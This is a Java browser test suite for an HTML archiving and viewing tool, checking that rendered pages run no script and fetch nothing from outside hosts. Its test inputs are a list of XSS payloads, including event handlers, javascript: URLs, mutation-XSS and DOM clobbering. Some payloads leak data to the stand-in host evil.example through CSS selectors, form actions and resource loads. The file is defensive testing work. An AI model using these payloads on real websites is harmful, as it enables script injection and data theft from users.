package dev.pleach.server.look;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import dev.pleach.segment.Segments;
import dev.pleach.template.Template;
import dev.pleach.template.Templates;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever a page has in it: nothing of it runs, and nothing but kept files is asked for. */
@Tag("browser")
class HostileBrowserTest {
  private static final String RUN = "top.postMessage('ran','*')";

  private static final String SVG =
      "<svg xmlns='http://www.w3.org/2000/svg' onload=\""
          + RUN
          + "\"><script>"
          + RUN
          + "</script><image href='http://evil.example/svg'/></svg>";

  private static final List<String> PARTS =
      List.of(
          "<script>RUN</script><img src=x onerror=\"RUN\"><body onload=\"RUN\">",
          "<style>@import 'http://evil.example/i';b{background:url(http://evil.example/c)}"
              + "input[value^=a]{background:url(http://evil.example/v)}@font-face{font-family:e;src:url(http://evil.example/f)}"
              + "b{font-family:e}</style><b>t</b><input value=abc>",
          "<svg onload=\"RUN\"><script>RUN</script><use href='http://evil.example/u#a'/><image href='http://evil.example/m'/>"
              + "<animate attributeName=href values='javascript:RUN'/><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
          "<a id=j href=\"javascript:RUN\">x</a><a href='data:text/html,<script>RUN</script>'>y</a>",
          "<base href='http://evil.example/'><img src=pic.png><a href=rel>z</a>",
          "<meta http-equiv=refresh content='0;url=http://evil.example/r'><link rel=preload as=image href='http://evil.example/p'>"
              + "<link rel=stylesheet href='http://evil.example/s.css'><link rel=icon href='http://evil.example/i'>",
          "<form action='http://evil.example/form' id=fo><input id=children><input id=parentElement><img id=getAttribute name=body>"
              + "<button formaction='http://evil.example/fa' id=go>go</button></form>",
          "<iframe src='http://evil.example/frame'></iframe><object data='http://evil.example/o'></object>"
              + "<embed src='http://evil.example/e'><video src='http://evil.example/v' poster='http://evil.example/po' autoplay></video>",
          "<p id=body>b</p><p id=documentElement>d</p><img name=querySelector id=querySelector><form name=body></form>",
          "<div style=\"background:url('http://evil.example/inline');width:expression(RUN)\">s</div>"
              + "<table background='http://evil.example/bg'><tr><td>c</td></tr></table>",
          "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'></table></mtext></math>",
          "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript><template><script>RUN</script></template>",
          "<img src=a.svg><object type='image/svg+xml' data=a.svg></object><img srcset='http://evil.example/ss 2x' src='http://evil.example/src'>",
          "<p data-pl=1 data-pl-block data-pl-shell data-pl-segments='[]'>forged</p><pl-box onclick=RUN>box</pl-box>",
          "<details open ontoggle=RUN><summary>s</summary></details><marquee onstart=RUN>m</marquee><input autofocus onfocus=RUN>");

  /** Clicks what can be clicked. */
  private static final String USE =
      "() => { for (const e of Document.prototype.querySelectorAll.call(document, 'button, summary,"
          + " input, form, a[href^=java]')) e.dispatchEvent(new MouseEvent('click', {bubbles: true})); }";

  private static LookHost host;

  @TempDir Path folder;

  @BeforeAll
  static void open() throws IOException {
    host = new LookHost();
  }

  @AfterAll
  static void close() {
    if (host != null) {
      host.close();
    }
  }

  @ParameterizedTest
  @MethodSource("parts")
  void nothingRunsAndNothingIsAskedForInAnyDocument(String part) {
    List<String> paths = new ArrayList<>();
    StringBuilder frames = new StringBuilder();
    String html =
        "<html><body><div id=block>" + part.replace("RUN", RUN) + "<p>text</p></div></body></html>";
    SavedPage site = new SavedPage(folder, host.shelf);
    site.file("a.svg", SVG).file("pic.png", SavedPage.PNG);
    PageLook look = site.look(html);
    StoredBlock block = look.block(List.of(0));
    for (LookOptions.Look kind : LookOptions.Look.values()) {
      add("/h" + kind, BlockDocument.of(block, LookOptions.of(kind)), frames, paths);
    }
    add("/p", PickerDocument.of(look, Segments.of(look.page())), frames, paths);
    Template template = Templates.detect(look.page(), List.of());
    for (TemplateView.View view : TemplateView.View.values()) {
      FrameDocument document = TemplateView.of(look, template, view, LookOptions.standard());
      add("/t" + view, document, frames, paths);
    }
    StoredBlock other = site.block("<div id=block><p>other</p></div>", "#block");
    add("/d", VersionDiff.of(block, other, "a", "b", host.shelf), frames, paths);
    host.asked.clear();
    Page page = host.newPage(1000, 800, false);
    page.navigate(
        host.serve(
            "/all",
            "<body><script>window.ran = []; addEventListener('message', e => { if (e.data === 'ran') ran.push(1) })</script>"
                + frames));
    for (Frame frame : page.frames()) {
      if (frame != page.mainFrame()) {
        frame.evaluate(USE);
      }
    }
    page.waitForTimeout(300);
    assertThat(page.evaluate("ran.length")).isEqualTo(0);
    assertThat(host.asked)
        .hasSizeGreaterThanOrEqualTo(paths.size())
        .allMatch(
            url ->
                url.startsWith(host.address() + "/asset/")
                    || url.equals(host.address() + "/all")
                    || url.equals(host.address() + "/favicon.ico")
                    || paths.contains(url));
    page.context().close();
  }

  static List<String> parts() {
    return PARTS;
  }

  /** The same without us: the test notices what runs and loads. */
  @Test
  void whatIsNotSanitisedIsNoticed() {
    host.asked.clear();
    Page page = host.newPage(300, 300, false);
    page.navigate(
        host.serve(
            "/raw",
            "<script>window.ran = []; addEventListener('message', e => ran.push(1))</script>"
                + PARTS.get(0).replace("RUN", RUN)
                + "<img src=http://evil.example/raw>"));
    page.waitForFunction("() => ran.length > 0");
    assertThat(host.asked).contains("http://evil.example/raw");
    page.context().close();
  }

  private static void add(
      String path, FrameDocument document, StringBuilder frames, List<String> paths) {
    paths.add(host.serve(path, document));
    frames.append("<iframe sandbox='").append(FrameDocument.SANDBOX).append("' src='").append(path);
    frames.append("#t' width=300 height=60></iframe>");
  }

  @Test
  void aDrawingOpenedByItselfRunsNothing() {
    host.asked.clear();
    String key = host.shelf.put(SVG.getBytes(UTF_8), "image/svg+xml");
    Page page = host.newPage(300, 300, false);
    page.navigate(host.address() + "/asset/" + key);
    page.waitForTimeout(300);
    assertThat(page.evaluate("document.documentElement.localName")).isEqualTo("svg");
    assertThat(host.asked).noneMatch(url -> url.contains("evil.example"));
    page.context().close();
  }

  @Test
  void whatIsNotServedIsNotThere() {
    byte[] html = "<script>alert(1)</script>".getBytes(UTF_8);
    SavedPage site = new SavedPage(folder, host.shelf).file("x.png", html);
    assertThat(site.block("<p id=b><img src=x.png></p>", "#b").assets()).isEmpty();
  }
}
